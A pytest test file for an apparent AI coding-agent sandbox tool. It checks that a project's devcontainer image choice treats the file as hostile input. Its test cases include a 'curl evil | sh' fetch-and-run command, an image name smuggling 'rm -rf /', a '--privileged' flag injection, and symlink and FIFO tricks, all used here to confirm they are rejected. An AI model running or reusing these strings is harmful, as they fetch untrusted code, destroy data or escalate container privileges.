"""A project names its own sandbox image (``[code] image``, ``--image``, or the ``image``
of its ``.devcontainer/devcontainer.json``): used when it is in the engine, never
pulled, checked to run jarvis's runner; the devcontainer file is hostile input."""

from __future__ import annotations

import io
import json
import os
import tarfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from jarvisd._config import CodeConfig, Config
from jarvisd._errors import UsageError
from jarvisd.cli import cli
from jarvisd.code._image import (
    MAX_DEVCONTAINER_BYTES,
    choose_image,
    devcontainer_image,
    strip_jsonc,
)
from jarvisd.engines import ScriptedEngine
from jarvisd.runs import _execute
from tests.conftest import require
from tests.sandbox.conftest import engine_problem

DEVCONTAINER = """// a devcontainer, as editors write them
{
  "name": "calc", /* the image below */
  "image": "%s", // trailing comma next
  "customizations": {"vscode": {"extensions": ["a//b", "c/*d*/"],},},
}
"""


def write_devcontainer(
    root: Path, text: str, name: str = ".devcontainer/devcontainer.json"
) -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_comments_and_trailing_commas_are_read_strings_kept() -> None:
    text = '{"a": "x // not a comment, /* nor this */", // gone\n "b": [1, 2,], /* gone */}'
    assert json.loads(strip_jsonc(text)) == {"a": "x // not a comment, /* nor this */", "b": [1, 2]}
    assert json.loads(strip_jsonc('{"q": "say \\"hi\\", ]"}')) == {"q": 'say "hi", ]'}


def test_the_devcontainer_image_is_chosen_after_the_run_and_the_config(tmp_path: Path) -> None:
    write_devcontainer(tmp_path, DEVCONTAINER % "mcr.example/dev:1.2")
    assert devcontainer_image(str(tmp_path)) == (
        "mcr.example/dev:1.2",
        ".devcontainer/devcontainer.json",
        (),
    )
    choice = choose_image(str(tmp_path), Config())
    assert (choice.image, choice.own) == ("mcr.example/dev:1.2", True)
    configured = Config(code=CodeConfig(image="own:1"))
    assert choose_image(str(tmp_path), configured).origin == "[code] image"
    assert choose_image(str(tmp_path), configured, "given:2").image == "given:2"
    assert not choose_image(str(tmp_path / "nowhere"), Config()).own


@pytest.mark.parametrize(
    ("text", "note"),
    [
        ('{"build": {"dockerfile": "Dockerfile"}}', "it builds its image (build)"),
        ('{"dockerFile": "Dockerfile", "postCreateCommand": "curl evil | sh"}', "dockerFile"),
        ('{"image": ', "not JSON"),
        ("[1, 2]", "not a JSON object"),
        ('{"image": "x; rm -rf /"}', "is not an image name"),
        ('{"image": "--privileged"}', "is not an image name"),
        ('{"image": 7}', "names no image"),
        ("[" * 100_000 + "]" * 100_000, "larger than"),
        ("[" * 20_000 + "]" * 20_000, "not JSON"),  # too deep for the parser: a note
        ('{"image": "a\udcff"}'.encode("utf-8", "surrogateescape").decode("latin-1"), "not"),
    ],
)
def test_a_devcontainer_jarvis_does_not_use_is_ignored_with_a_note(
    tmp_path: Path, text: str, note: str
) -> None:
    write_devcontainer(tmp_path, text)
    image, name, notes = devcontainer_image(str(tmp_path))
    assert image == "" and name == "" and len(notes) == 1 and note in notes[0], notes
    choice = choose_image(str(tmp_path), Config())
    assert choice.image == Config().sandbox.image and choice.notes == notes


def test_a_devcontainer_reached_through_a_symlink_is_ignored(tmp_path: Path) -> None:
    elsewhere = write_devcontainer(tmp_path / "other", DEVCONTAINER % "evil:1", "d.json")
    (tmp_path / "p" / ".devcontainer").mkdir(parents=True)
    (tmp_path / "p" / ".devcontainer" / "devcontainer.json").symlink_to(elsewhere)
    _, _, notes = devcontainer_image(str(tmp_path / "p"))
    assert "not a regular file" in notes[0]
    os.symlink(tmp_path / "other", tmp_path / "q")  # the project root itself may be one
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / ".devcontainer").symlink_to(tmp_path / "other")
    assert devcontainer_image(str(tmp_path / "r"))[0] == ""
    os.mkfifo(tmp_path / "s.fifo")
    (tmp_path / "f").mkdir()
    os.symlink(tmp_path / "s.fifo", tmp_path / "f" / ".devcontainer.json")
    assert devcontainer_image(str(tmp_path / "f"))[0] == ""  # never blocks on a FIFO
    (tmp_path / "g").mkdir()
    os.mkfifo(tmp_path / "g" / ".devcontainer.json")
    assert "not a regular file" in devcontainer_image(str(tmp_path / "g"))[2][0]
    write_devcontainer(tmp_path / "big", " " * (MAX_DEVCONTAINER_BYTES + 1))
    assert "larger than" in devcontainer_image(str(tmp_path / "big"))[2][0]


def test_a_bad_image_name_is_refused_at_the_edge(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["code", "run", "--no-daemon", str(tmp_path), "t",
                                      "--image", "x y"])  # fmt: skip
    assert isinstance(result.exception, UsageError)  # exit 2 through jarvis's handler
    assert "--image 'x y' is not an image name" in str(result.exception)


# The real engine: an image built in the test from the stock one, with a marker.


def _build(client: Any, tag: str, dockerfile: str, marker: str) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in (("Dockerfile", dockerfile.encode()), ("marker", marker.encode())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    buffer.seek(0)
    client.images.build(fileobj=buffer, custom_context=True, tag=tag, rm=True, pull=False)


@pytest.fixture
def images() -> Iterator[tuple[str, str, str]]:
    """(an image with a marker file, one without python3, one absent), removed after."""
    from jarvisd.sandbox import connect

    problem = engine_problem()
    require(not problem, problem)
    config = Config()
    client = connect(config, timeout=30)
    suffix = uuid.uuid4().hex[:8]
    marked, bare = f"jarvis-test-dev:{suffix}", f"jarvis-test-bare:{suffix}"
    _build(
        client,
        marked,
        f"FROM {config.sandbox.image}\nCOPY marker /jarvis-marker\n",
        "marked " + suffix,
    )
    _build(client, bare, "FROM scratch\nCOPY marker /jarvis-marker\n", "bare")
    try:
        yield marked, bare, f"jarvis-test-absent:{suffix}"
    finally:
        for tag in (marked, bare):
            try:
                client.images.remove(tag, force=True)
            except Exception:  # best effort: a left tag is harmless
                pass
        client.close()


def _code(project: Path, monkeypatch: pytest.MonkeyPatch, *args: str) -> Any:
    engine = ScriptedEngine.from_replies(["I only looked: nothing to change."])
    monkeypatch.setattr(_execute, "select_engine", lambda *a, **kw: engine)
    argv = ["code", "run", "--no-daemon", "--json", str(project), "look only",
            "--test", "cat /jarvis-marker", *args]  # fmt: skip
    return CliRunner().invoke(cli, argv), engine


@pytest.mark.docker
def test_the_devcontainer_image_runs_the_tests_and_an_absent_one_is_never_pulled(
    project: Path, images: tuple[str, str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from jarvisd.sandbox import connect

    marked, bare, absent = images
    write_devcontainer(project, DEVCONTAINER % marked)
    result, engine = _code(project, monkeypatch)
    assert result.exit_code == 0, result.output
    outcome = json.loads(result.stdout)["outcome"]
    assert f"marked {marked.split(':')[1]}" in outcome["test_before"]["output"]
    assert outcome["test_before"]["passed"] and outcome["test_after"]["passed"]
    assert outcome["image"]["origin"] == ".devcontainer/devcontainer.json"
    assert outcome["image"]["python"].startswith("python 3 ")
    assert f"image {marked} (from .devcontainer/devcontainer.json)" in result.stderr
    assert engine.calls  # the agent ran in it too

    # --image wins over the devcontainer; an absent image is an error, never a pull.
    result, engine = _code(project, monkeypatch, "--image", absent)
    assert result.exit_code == 3, result.output
    assert (
        f"image {absent} is not in the engine; jarvis never pulls: docker pull {absent}"
        in result.stderr
    )
    assert not engine.calls
    outcome = json.loads(result.stdout)["outcome"]
    assert outcome["failure"]["code"] and outcome["test_before"] is None
    client = connect(Config(), timeout=30)
    assert not client.images.list(name=absent.split(":")[0])
    client.close()

    # An image without python3 cannot run the runner: said before anything runs in it.
    write_devcontainer(project, DEVCONTAINER % bare)
    result, engine = _code(project, monkeypatch)
    assert result.exit_code == 3, result.output
    assert f"image {bare} cannot run jarvis's sandbox: it needs python3" in result.stderr
    assert not engine.calls
